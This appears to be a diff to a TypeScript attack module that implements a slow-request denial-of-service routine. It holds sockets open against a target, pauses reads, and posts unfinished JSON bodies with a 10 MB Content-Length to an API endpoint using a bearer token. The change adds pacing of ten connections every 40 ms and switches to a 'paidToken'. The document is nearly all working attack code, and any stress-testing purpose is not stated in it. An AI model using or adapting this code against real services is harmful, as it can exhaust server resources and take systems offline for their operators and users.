@@ -1,9 +1,15 @@
+import { setTimeout as sleep } from 'node:timers/promises';
 import { type Attack, hold, tally } from '../attack.ts';
+
+/** So many a second: it is not their coming that hurts, but that they stay. */
+const AT_ONCE = 10;
+const EVERY_MS = 40;
 
 const heardOf = (heads: { head: string[]; rest: string; reads: boolean }[]): Attack['run'] => {
   return async (target, until) => {
     const { count, words } = tally();
-    for (const { head, rest, reads } of heads) {
+    for (const [index, { head, rest, reads }] of heads.entries()) {
+      if (index % AT_ONCE === 0) await sleep(EVERY_MS);
       const socket = hold(target, head, rest, until).on('close', () => count('closed'));
       if (reads) socket.on('data', (data) => count(String(data).slice(9, 12)));
       else socket.pause();
@@ -23,7 +29,7 @@ export const unfinishedBodies: Attack = {
       'POST /rest/v1/rpc/import_guests HTTP/1.1',
       'Content-Type: application/json',
       'Content-Length: 10000000',
-      `Authorization: Bearer ${target.token}`,
+      `Authorization: Bearer ${target.paidToken}`,
       from(index),
     ];
     const started = '['.padEnd(100_000, ' ');
